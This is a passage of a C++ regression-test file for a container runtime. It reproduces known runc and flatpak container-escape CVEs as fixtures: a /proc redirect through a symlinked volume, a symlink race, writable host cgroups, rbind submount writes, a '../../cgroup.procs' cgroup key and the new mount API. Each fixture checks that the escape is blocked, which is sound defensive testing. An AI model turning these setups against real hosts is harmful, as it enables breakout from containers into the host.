  Ran r = env.launch(launch_for(c, cfg, {kPayload, "fsinfo", "/dev/console"}));
  json s = probe_step(r, "fsinfo");
  if (s.is_null()) {
    if (r.lines.empty() && r.res.status != 0) return refused(runtime_error(r.res));
    return no_output(r);
  }
  std::string werr = errno_name(static_cast<int>(count(s, "write_errno")));
  if (flag(s, "procfs") && count(s, "write_errno") == 0) {
    return escaped("/dev/console is core_pattern, open for writing", r.state);
  }
  if (flag(s, "procfs")) return blocked("/dev/console is core_pattern but " + werr, r.state);
  return blocked(
      "/dev/console is " + text(s, "type") + " " + text(s, "rdev") + " (write " + werr + ")",
      r.state);
}

// ---- CVE-2019-16884, CVE-2019-19921, CVE-2023-27561, CVE-2025-52881 (runc): /proc redirected -

struct ProcRedirect {
  std::string rootfs, fake, fake_file;
  json cfg;
};

// A config volume (host dir `fake`, holding a plain ip_forward file) whose destination /vol/link
// is, in the rootfs, a symlink to /proc/sys/net/ipv4, plus the sysctl net.ipv4.ip_forward=1:
// a runtime that mounts the volume over the container's /proc and then writes the sysctl by
// path writes into the host file.
ProcRedirect proc_redirect_setup(Env& env, const Cell& c, const std::string& name) {
  ProcRedirect p;
  p.rootfs = env.rootfs_copy("rootfs-cve");
  p.fake = env.work + "/fake-ipv4-" + name;
  p.fake_file = p.fake + "/ip_forward";
  mkdir(p.fake.c_str(), 0777);
  write_text(p.fake_file, "0\n");
  chmod(p.fake_file.c_str(), 0666);
  std::string vol = p.rootfs + "/vol";
  remove_tree(vol);
  mkdir(vol.c_str(), 0755);
  mkdir((vol + "/dir").c_str(), 0755);
  symlink("/proc/sys/net/ipv4", (vol + "/link").c_str());
  p.cfg = base_config(env, c);
  p.cfg["root"]["path"] = p.rootfs;
  p.cfg["mounts"].push_back(
      {{"destination", "/vol/link"}, {"type", "bind"}, {"source", p.fake}, {"options", {"bind"}}});
  p.cfg["linux"]["sysctl"] = {{"net.ipv4.ip_forward", "1"}};
  return p;
}

std::string sysctl_record(const json& state) {
  if (!state.is_object()) return "no state";
  const json& s = state["hardening"]["primitives"]["sysctl"];
  std::string out = s.value("status", "?");
  if (s.contains("error")) out += " " + s["error"].get<std::string>();
  return out;
}

Observation fx_proc_redirect(Env& env, const Cell& c) {
  ProcRedirect p = proc_redirect_setup(env, c, "proc-redirect");
  Ran r = env.launch(launch_for(c, p.cfg, {kPayload, "fsinfo", "/proc/sys/net/ipv4/ip_forward"}));
  std::string host = read_text(p.fake_file);
  if (host != "0\n") return escaped("the sysctl write landed in the host file", r.state);
  if (r.lines.empty() && r.res.status != 0) return refused(runtime_error(r.res));
  json s = probe_step(r, "fsinfo");
  if (s.is_null()) return no_output(r);
  std::string seen = flag(s, "procfs") ? "procfs" : "the volume (" + text(s, "type") + ")";
  return blocked("/proc/sys/net/ipv4/ip_forward inside is " + seen + "; sysctl " +
                     sysctl_record(r.state) + "; host file untouched",
                 r.state);
}

// The same with /vol/link exchanged with a real directory while containers start.
Observation fx_procfs_race(Env& env, const Cell& c) {
  ProcRedirect p = proc_redirect_setup(env, c, "procfs-race");
  int runs = 0, hits = 0;
  long flips = 0;
  json state;
  bool written = false;
  {
    Flipper flip(p.rootfs + "/vol/link", p.rootfs + "/vol/dir");
    double start = now_s();
    // On until one run the race missed has left a state to check, too: a refused create
    // records none, and on a slow machine the first three runs may all be hits.
    while ((racing(start, hits, runs) || (!state.is_object() && now_s() - start < 60.0)) &&
           !written) {
      Ran r = env.launch(launch_for(c, p.cfg, {kProbe, "echo", "x"}));
      ++runs;
      if (r.state.is_object()) {
        state = r.state;
        if (sysctl_record(r.state) != "applied") ++hits;
      } else if (r.res.err.find("linux.sysctl") != std::string::npos) {
        ++hits;  // a sysctl that cannot be written is an error at create (docs/design.md)
      }
      written = read_text(p.fake_file) != "0\n";
    }
    flips = flip.flips();
  }
  std::string ev = std::to_string(runs) + " runs, " + std::to_string(flips) + " flips; " +
                   std::to_string(hits) + " runs had /proc/sys/net/ipv4 covered by the volume " +
                   "and refused the sysctl write";
  if (written) return escaped("the sysctl write landed in the host file; " + ev, state);
  if (hits == 0) return error("the race never hit: " + ev, state);
  return blocked(ev + "; host file untouched", state);
}

// ---- CVE-2023-25809 (runc): host cgroups writable through a recursive /sys --------------------

// A host cgroup directory delegated to the container root's host uid (as systemd delegates one
// to a rootless user); the strict profile without a network namespace (--net=host), where sysfs
// cannot be mounted and the host's /sys is bound instead. Its cgroup submounts must not be
// writable from inside.
Observation fx_sys_cgroup(Env& env, const Cell& c) {
  std::string hierarchy;
  for (const char* h : {"pids", "memory", "unified", ""}) {
    std::string dir = std::string("/sys/fs/cgroup/") + h;
    if (test::path_exists(dir + "/cgroup.procs")) {
      hierarchy = dir;
      break;
    }
  }
  if (hierarchy.empty()) return error("no cgroup hierarchy with cgroup.procs");
  std::string deleg = hierarchy + "/nyx-escape-deleg-" + std::to_string(getpid());
  if (mkdir(deleg.c_str(), 0755) != 0 && errno != EEXIST) return error("cannot make " + deleg);
  test::run({"chown", "-R", std::to_string(kContainerRoot) + ":" + std::to_string(kContainerRoot),
             deleg});
  json cfg = base_config(env, c);
  json ns = json::array();
  for (const auto& n : cfg["linux"]["namespaces"]) {
    if (n["type"] != "network") ns.push_back(n);
  }
  cfg["linux"]["namespaces"] = ns;
  Ran r = env.launch(launch_for(c, cfg, {kProbe, "openw", deleg + "/cgroup.procs"}));
  rmdir(deleg.c_str());
  json s = probe_step(r, "openw");
  if (s.is_null()) return no_output(r);
  if (flag(s, "ok"))
    return escaped("opened the host's " + deleg + "/cgroup.procs for writing", r.state);
  return blocked("host cgroup.procs for writing: " + errno_of(s), r.state);
}

// ---- CVE-2023-25809, second case: "rbind" + recursive read-only --------------------------------

// A host directory with a submount (a tmpfs holding a file the container root owns), bound
// with "rbind","rro": the submount must be read-only too.
Observation fx_rro(Env& env, const Cell& c) {
  std::string vol = env.work + "/rro-vol";
  std::string sub = vol + "/sub";
  test::run({"mkdir", "-p", sub});
  if (mount("tmpfs", sub.c_str(), "tmpfs", 0, "mode=0777,size=64k") != 0) {
    return error("cannot mount the submount");
  }
  write_text(sub + "/file", "host\n");
  // Owned by the container's root, so that only the read-only mount stands in the way.
  unsigned owner = c.config.rfind("strict", 0) == 0 ? kContainerRoot : 0;
  chown((sub + "/file").c_str(), owner, owner);
  json cfg = base_config(env, c);
  cfg["mounts"].push_back(
      {{"destination", "/mnt"}, {"type", "bind"}, {"source", vol}, {"options", {"rbind", "rro"}}});
  Ran r = env.launch(launch_for(
      c, cfg, {kProbe, "write", "/mnt/sub/file", "pwned", "+", "write", "/mnt/top", "x"}));
  std::string after = read_text(sub + "/file");
  umount2(sub.c_str(), MNT_DETACH);
  json s = probe_step(r, "write");
  if (s.is_null()) {
    if (r.lines.empty() && r.res.status != 0) return refused(runtime_error(r.res));
    return no_output(r);
  }
  if (after == "pwned")
    return escaped("wrote the host file in the submount of an rro bind", r.state);
  return blocked("submount write: " + errno_of(s), r.state);
}

// ---- GHSA-5g49-rx9x-qfc6 (runc): cgroup file names with ".." ---------------------------------

Observation fx_cgroup_file(Env& env, const Cell& c) {
  json cfg = base_config(env, c);
  cfg["linux"]["resources"]["unified"] = {{"../../cgroup.procs", "0"}};
  Ran r = env.launch(launch_for(c, cfg, {kProbe, "echo", "x"}));
  if (r.lines.empty() && r.res.status != 0) return refused(runtime_error(r.res));
  if (probe_step(r, "echo").is_null()) return no_output(r);
  return escaped("a unified key \"../../cgroup.procs\" was accepted", r.state);
}

// ---- flatpak CVE-2021-41133: the new mount API ---------------------------------------------

// Container root with CAP_SYS_ADMIN (in its user namespace): only the filter's "mount" family
// stops fsopen/fsmount/open_tree, which a filter listing mount(2) alone lets through.
Observation fx_fsmount(Env& env, const Cell& c) {
  json cfg = env.strict();
  add_caps(cfg, {"CAP_SYS_ADMIN"});
  Ran r = env.launch(launch_for(c, cfg, {kPayload, "fsmount"}));
  json s = probe_step(r, "fsmount");
  if (s.is_null()) return no_output(r);
  std::string ev =
      "fsopen " + errno_name(static_cast<int>(count(s, "fsopen"))) +
      (count(s, "fsopen") == 0 ? ", fsmount " + errno_name(static_cast<int>(count(s, "fsmount")))
                               : "") +
      ", open_tree " + errno_name(static_cast<int>(count(s, "open_tree")));
  if (count(s, "fsopen") == 0 || count(s, "open_tree") == 0) return escaped(ev, r.state);
  return blocked(ev, r.state);
}

struct Fixture {
  const char* name;
  const char* primitive;
  const char* config;
  const char* ablate;
  Verdict expect;
  bool require_full;
  Observation (*fn)(Env&, const Cell&);
};

constexpr Verdict B = Verdict::Blocked;
constexpr Verdict E = Verdict::Escaped;

const Fixture kFixtures[] = {
    {"numeric-user", "host-safety", "strict", "", B, true, fx_numeric_user},
    {"numeric-user", "host-safety", "runc-like root", "", B, true, fx_numeric_user},
    {"uid-overflow", "host-safety", "strict", "", B, true, fx_uid_overflow},
    {"uid-overflow", "host-safety", "runc-like root", "", B, true, fx_uid_overflow},
    {"supplementary-groups", "host-safety", "strict", "", B, true, fx_groups},
    {"supplementary-groups", "host-safety", "runc-like root", "", B, true, fx_groups},
    {"supplementary-groups", "host-safety", "runc-like root, exec", "", B, true, fx_groups},
    {"inheritable-caps", "capabilities", "runc-like root -nnp", "", B, true, fx_inheritable},
    {"inheritable-caps", "capabilities", "runc-like root -nnp", "caps", E, true, fx_inheritable},
    {"inheritable-caps", "capabilities", "runc-like root -nnp, exec --cap", "", B, true,
     fx_inheritable},
    {"exec-fd-leak", "host-safety", "strict", "", B, true, fx_exec_fds},
    {"exec-fd-leak", "host-safety", "runc-like root", "", B, true, fx_exec_fds},
    {"argv-via-fd", "host-safety", "strict", "", B, true, fx_args_fd},
    {"argv-via-fd", "host-safety", "runc-like root", "", B, true, fx_args_fd},
    {"exec-ptrace", "host-safety", "strict +ptrace", "", B, true, fx_exec_ptrace},
    {"exec-ptrace", "host-safety", "runc-like root", "", B, true, fx_exec_ptrace},
    {"exec-ptrace", "host-safety", "runc-like root +CAP_SYS_PTRACE", "", B, true, fx_exec_ptrace},
    {"exec-joiner-exe", "exec", "strict", "", B, true, fx_exec_joiner},
    {"exec-joiner-exe", "exec", "runc-like root", "", B, true, fx_exec_joiner},
    {"exec-joiner-exe", "exec", "runc-like root +CAP_SYS_PTRACE", "", B, true, fx_exec_joiner},
    {"exe-reexec-exec", "exec", "strict", "", B, true, fx_reexec_exec},
    {"exe-reexec-exec", "exec", "runc-like root", "", B, true, fx_reexec_exec},
    {"exe-reexec-run", "host-safety", "strict", "", B, true, fx_reexec_run},
    {"exe-reexec-run", "host-safety", "runc-like root", "", B, true, fx_reexec_run},
    {"mount-target-race", "mounts", "strict", "", B, false, fx_mount_race},
    {"mount-target-race", "mounts", "runc-like root", "", B, false, fx_mount_race},
    {"masked-path-race", "mounts", "strict", "", B, true, fx_masked_race},
    {"masked-path-race", "mounts", "strict", "mounts", E, true, fx_masked_race},
    {"readonly-path-race", "mounts", "runc-like root", "", B, false, fx_readonly_race},
    {"masked-devnull", "mounts", "strict -/dev", "", B, true, fx_masked_devnull},
    {"masked-devnull", "mounts", "runc-like root -/dev", "", B, true, fx_masked_devnull},
    {"console-source", "mounts", "runc-like root, image /dev, devpts at /devpts", "", B, false,
     fx_console},
    {"console-source", "mounts", "runc-like root, image /dev, devpts at /devpts -readonlyPaths", "",
     B, false, fx_console},
    {"proc-redirect", "sysctl", "strict", "", B, false, fx_proc_redirect},
    {"proc-redirect", "sysctl", "runc-like root", "", B, false, fx_proc_redirect},
    {"procfs-write-race", "sysctl", "runc-like root", "", B, false, fx_procfs_race},
    {"sys-cgroup-rw", "mounts", "strict -netns", "", B, false, fx_sys_cgroup},
    {"rro-submount", "mounts", "strict", "", B, true, fx_rro},
    {"rro-submount", "mounts", "runc-like root", "", B, true, fx_rro},
    {"cgroup-file-name", "cgroups", "strict", "", B, true, fx_cgroup_file},
    {"new-mount-api", "seccomp", "strict +CAP_SYS_ADMIN", "", B, true, fx_fsmount},
    {"new-mount-api", "seccomp", "strict +CAP_SYS_ADMIN", "seccomp", E, true, fx_fsmount},
};

}  // namespace

std::vector<Cell> cve_cells() {
  std::vector<Cell> out;
  for (const Fixture& f : kFixtures) {
    Cell c;
    c.fixture = f.name;
    c.primitive = f.primitive;
    c.config = f.config;
    c.ablate = f.ablate;
    c.expect = f.expect;
    c.require_full = f.require_full;
    c.run = f.fn;
    out.push_back(std::move(c));
  }
  return out;
}

}  // namespace nyx::escape
